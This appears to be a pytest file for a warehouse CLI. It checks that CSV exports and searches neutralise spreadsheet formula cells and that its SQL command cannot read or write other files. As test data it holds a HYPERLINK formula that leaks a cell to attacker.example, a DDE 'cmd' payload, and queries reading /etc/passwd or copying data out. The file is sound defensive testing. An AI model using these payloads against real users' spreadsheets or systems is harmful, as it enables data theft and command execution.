"""Safe outputs of the read commands, run as a user runs them (`python -m warehouse.cli`) on a real warehouse:

- CSV (export, search) neutralises formula cells with OWASP's rule; Parquet stays exact;
- `socwh sql` cannot reach other files unless --allow-files, and prints DuckDB's error alone on one line.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
import sys

import duckdb
import polars as pl
import pytest

from tests.conftest import REPO
from warehouse.products.csvsafe import FORMULA_START, safe_cell, safe_frame

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def socwh(db, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "warehouse.cli", *args, "--db", str(db)],
        cwd=REPO,
        env={**os.environ, "COLUMNS": "200"},
        capture_output=True,
        text=True,
        timeout=120,
    )


def _sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def formula_warehouse(built_warehouse, tmp_path_factory):
    """A copy of the real warehouse where one publisher title begins with a spreadsheet formula."""
    settings, _ = built_warehouse
    db = tmp_path_factory.mktemp("formula") / "soc.duckdb"
    shutil.copy(settings.db_path, db)
    with duckdb.connect(str(db)) as con:
        con.execute("UPDATE core.soc_hierarchy SET title = ? WHERE soc_code = '15-1221'", [FORMULA])
    return db


def test_the_rule_quotes_only_text_that_starts_like_a_formula():
    for start in FORMULA_START:
        assert safe_cell(start + "A1+1") == "'" + start + "A1+1"
    assert safe_cell("Computer Scientists") == "Computer Scientists"
    assert safe_cell(-5) == -5 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    # a sign and then digits only names nothing a spreadsheet could run: a roster's phone numbers are written back
    for figure in ("-5", "+49 30 1234-5678", "+1 (555) 010-0199", "-", "-1,234.5"):
        assert safe_cell(figure) == figure
    # ... but not when a letter, a tab, a pipe or a line break follows: DDE, a function or a reference
    for formula in ("-2+3+cmd|' /C calc'!A0", "+1\t", "-1\n", "-1+SUM(1)", "=1+1"):
        assert safe_cell(formula) == "'" + formula
    texts = ["-5", "@SUM(A1)", "\tx", "ok", None, "+49 30 1234", "-2+3+cmd|' /C calc'!A0", "=1", "-1\n"]
    frame = pl.DataFrame({"text": texts, "change": [-5, 1, 2, 3, None, 5, 6, 7, 8]})
    safe = safe_frame(frame)
    quoted = ["-5", "'@SUM(A1)", "'\tx", "ok", None, "+49 30 1234", "'-2+3+cmd|' /C calc'!A0", "'=1", "'-1\n"]
    assert safe["text"].to_list() == quoted
    assert safe["change"].to_list() == [-5, 1, 2, 3, None, 5, 6, 7, 8]  # a negative number stays a number
    assert safe["text"].to_list() == [safe_cell(v) for v in frame["text"]]  # one rule, two forms


def test_export_csv_quotes_the_formula_title_and_parquet_keeps_it_exact(formula_warehouse, tmp_path):
    before = _sha256(formula_warehouse)
    for fmt in ("csv", "parquet"):
        result = socwh(formula_warehouse, "export", str(tmp_path / fmt), "--format", fmt)
        assert result.returncode == 0, result.stderr
    with (tmp_path / "csv" / "occupations.csv").open(newline="") as handle:
        rows = {row["soc_code"]: row for row in csv.DictReader(handle)}
    assert rows["15-1221"]["title"] == "'" + FORMULA
    assert rows["15-1252"]["title"] == "Software Developers"
    parquet = pl.read_parquet(tmp_path / "parquet" / "occupations.parquet")
    assert parquet.filter(pl.col("soc_code") == "15-1221")["title"].item() == FORMULA
    # numbers are numbers in the CSV: the wage of a row is written as the number it is
    assert (
        float(rows["15-1252"]["annual_median_wage"])
        == parquet.filter(pl.col("soc_code") == "15-1252")["annual_median_wage"].item()
    )
    for path in (tmp_path / "csv").glob("*.csv"):  # no cell of any view may start like a formula
        with path.open(newline="") as handle:
            reader = csv.reader(handle)
            header = next(reader)
            numeric = {c for c, t in pl.read_csv(path, infer_schema_length=10_000).schema.items() if t.is_numeric()}
            for row in reader:
                for name, cell in zip(header, row, strict=True):
                    assert name in numeric or not cell.startswith(FORMULA_START), (path.name, name, cell)
    assert _sha256(formula_warehouse) == before


def test_search_csv_quotes_the_formula_title(formula_warehouse):
    result = socwh(formula_warehouse, "search", "computer and information research scientist", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    found = [row for row in rows if row["soc_code"] == "15-1221"]
    assert found and found[0]["title"] == "'" + FORMULA, result.stdout[:2000]
    assert all(not row["title"].startswith(FORMULA_START) for row in rows)


@pytest.fixture(scope="module")
def warehouse_copy(built_warehouse, tmp_path_factory):
    settings, _ = built_warehouse
    db = tmp_path_factory.mktemp("sql") / "soc.duckdb"
    shutil.copy(settings.db_path, db)
    return db


@pytest.mark.parametrize(
    "query",
    [
        "COPY (SELECT soc_code FROM occupations) TO '{out}'",
        "SELECT * FROM read_csv('/etc/passwd')",
        "ATTACH '{out}' AS other",
    ],
    ids=["copy-to", "read-etc-passwd", "attach"],
)
def test_sql_cannot_reach_other_files(warehouse_copy, tmp_path, query):
    before = _sha256(warehouse_copy)
    out = tmp_path / "leak.csv"
    result = socwh(warehouse_copy, "sql", query.format(out=out))
    assert result.returncode == 1
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr  # DuckDB's message alone, no traceback
    assert lines[0].startswith("Permission Error: Cannot access file"), lines[0]
    assert "file system operations are disabled by configuration" in lines[0]
    assert not out.exists()
    assert _sha256(warehouse_copy) == before


def test_sql_allow_files_turns_file_access_back_on(warehouse_copy, tmp_path):
    out = tmp_path / "codes.csv"
    result = socwh(warehouse_copy, "sql", "--allow-files", f"COPY (SELECT soc_code FROM occupations) TO '{out}'")
    assert result.returncode == 0, result.stderr
    assert len(out.read_text().splitlines()) == 868  # header + 867 occupations
    result = socwh(warehouse_copy, "sql", "SELECT count(*) AS n FROM occupations")
    assert result.returncode == 0 and "867" in result.stdout


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("SELEC 1", 'Parser Error: syntax error at or near "SELEC"'),
        ("SELECT * FROM no_such_view", "Catalog Error: Table with name no_such_view does not exist!"),
        ("CREATE TABLE t (x INT)", 'Invalid Input Error: Cannot execute statement of type "CREATE"'),
    ],
    ids=["syntax", "unknown-table", "write"],
)
def test_sql_errors_are_one_line_with_exit_1(warehouse_copy, query, message):
    result = socwh(warehouse_copy, "sql", query)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(message), result.stderr
    assert "Traceback" not in result.stderr
